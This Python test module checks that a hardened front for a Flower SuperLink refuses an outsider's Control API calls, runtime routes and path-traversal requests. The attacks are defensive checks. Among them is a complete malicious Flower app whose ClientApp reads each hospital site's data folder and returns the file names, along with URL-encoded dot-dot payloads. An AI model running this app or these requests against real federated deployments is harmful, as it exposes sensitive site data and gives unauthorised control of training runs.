"""An outsider at the coordinator's public port, holding only the public ca.crt.

What a security review did against Flower 1.42's single SuperLink port (it serves Fleet,
Control and the ServerApp runtime API, and its Control API trusts any TLS caller): list the
runs and nodes, register its own SuperNode key, ``flwr run`` its own app (whose ClientApp
would read every hospital's folder), stop the real run, call the runtime routes. Against the
front of server/front.py every one of these must fail. ``attack`` runs them and returns what
each got; ``assert_refused`` checks the answers. Each flwr call costs a Python start (~2 s).
"""

from __future__ import annotations

import http.client
import json
import ssl
import subprocess
from pathlib import Path

from m2diff.ops.flower import flower_env, tool, write_connection

EVIL_PYPROJECT = """[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "evilapp"
version = "1.0.0"
description = "reads the sites' folders"
license = "Apache-2.0"
dependencies = []

[tool.flwr.app]
publisher = "attacker"

[tool.flwr.app.components]
serverapp = "evil.app:server"
clientapp = "evil.app:client"

[tool.flwr.app.config]
"""
EVIL_APP = '''"""What an outsider would run on every hospital: a ClientApp sending back the site's files."""
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

client = ClientApp()
server = ServerApp()


@client.train()
def steal(msg, context):
    site = Path(str(context.node_config.get("data-path", ".")))
    found = {"files": " ".join(p.name for p in site.rglob("*"))[:10000]}
    return Message(RecordDict({"loot": ConfigRecord(found)}), reply_to=msg)


@server.main()
def main(grid, context):
    pass
'''


def evil_app(folder: Path) -> Path:
    """A complete, valid Flower app (so ``flwr run`` gets as far as the SuperLink)."""
    (folder / "evil").mkdir(parents=True, exist_ok=True)
    (folder / "pyproject.toml").write_text(EVIL_PYPROJECT)
    (folder / "evil" / "__init__.py").write_text("")
    (folder / "evil" / "app.py").write_text(EVIL_APP)
    return folder


def flwr_json(prefix: list[str], env: dict, *args: str) -> dict:
    proc = subprocess.run([*prefix, tool("flwr"), *args, "--format", "json"], env=env,
                          capture_output=True, text=True, timeout=120)
    text = proc.stdout
    try:
        data = json.loads(text[text.find("{"):text.rfind("}") + 1])
    except ValueError:
        data = {"success": False, "error-message": (text + proc.stderr)[-500:]}
    data["exit"] = proc.returncode
    return data


def raw(host: str, port: int, ca: Path, method: str, path: str, body: bytes = b"",
        prefix: list[str] | None = None) -> int:
    """Status of one HTTPS request with ``path`` sent exactly as given (no normalisation)."""
    if prefix:  # from another network namespace: the same request through python -c
        code = (f"import http.client, ssl; c = http.client.HTTPSConnection({host!r}, {port}, "
                f"context=ssl.create_default_context(cafile={str(ca)!r}), timeout=30); "
                f"c.request({method!r}, {path!r}, body=b'x' * {len(body)}); "
                "print(c.getresponse().status)")
        import sys

        out = subprocess.run([*prefix, sys.executable, "-c", code], capture_output=True,
                             text=True, timeout=60)
        return int(out.stdout.strip() or -1)
    conn = http.client.HTTPSConnection(host, port, context=ssl.create_default_context(cafile=str(ca)),
                                       timeout=30)
    try:
        conn.request(method, path, body=body,
                     headers={"content-type": "application/protobuf"} if body else {})
        return conn.getresponse().status
    finally:
        conn.close()


def attack(workdir: Path, host: str, port: int, ca: Path, key_pub: Path, cap_bytes: int,
           run_id: int | None = None, prefix: list[str] | None = None) -> dict[str, object]:
    """Every Control / runtime call an outsider would try through ``host:port``."""
    prefix = prefix or []
    home = workdir / "attacker-flwr-home"
    write_connection(home, "public", f"{host}:{port}", root_certificates=ca)
    env = flower_env(home)
    got: dict[str, object] = {
        "flwr ls": flwr_json(prefix, env, "ls", "public"),
        "flwr supernode list": flwr_json(prefix, env, "supernode", "list", "public"),
        "flwr supernode register": flwr_json(prefix, env, "supernode", "register", str(key_pub),
                                         "public"),
        "flwr run": flwr_json(prefix, env, "run", str(evil_app(workdir / "evilapp")), "public"),
    }
    if run_id is not None:
        got["flwr stop"] = flwr_json(prefix, env, "stop", str(run_id), "public")
    for label, method, path, size in (
            ("runtime get-nodes", "POST", "/v1/runtime/get-nodes", 1),
            ("runtime pull-messages", "POST", "/v1/runtime/pull-messages", 1),
            ("control list-runs", "POST", "/v1/control/list-runs", 1),
            ("dot-dot to control", "POST", "/v1/fleet/../control/list-runs", 1),
            ("encoded dot-dot", "POST", "/v1/fleet/%2e%2e/control/list-runs", 1),
            ("docs", "GET", "/docs", 0), ("openapi", "GET", "/openapi.json", 0),
            ("fleet by GET", "GET", "/v1/fleet/pull-messages", 0),
            ("oversized push", "POST", "/v1/fleet/push-object", cap_bytes + 1)):
        got[label] = raw(host, port, ca, method, path, b"x" * size, prefix=prefix)
    got["health"] = raw(host, port, ca, "GET", "/health", prefix=prefix)
    return got


def assert_refused(got: dict[str, object]) -> None:
    """Every Control API call failed at the front (404 from nginx), every other route too;
    only /health answers."""
    for label, value in got.items():
        if label.startswith("flwr"):
            assert isinstance(value, dict) and value.get("success") is False, (label, value)
            assert "404" in str(value.get("error-message")), (label, value)
    for label in ("runtime get-nodes", "runtime pull-messages", "control list-runs",
                  "dot-dot to control", "encoded dot-dot", "docs", "openapi"):
        assert got[label] == 404, (label, got[label])
    assert got["fleet by GET"] == 403, got["fleet by GET"]
    assert got["oversized push"] == 413, got["oversized push"]
    assert got["health"] == 200, got["health"]
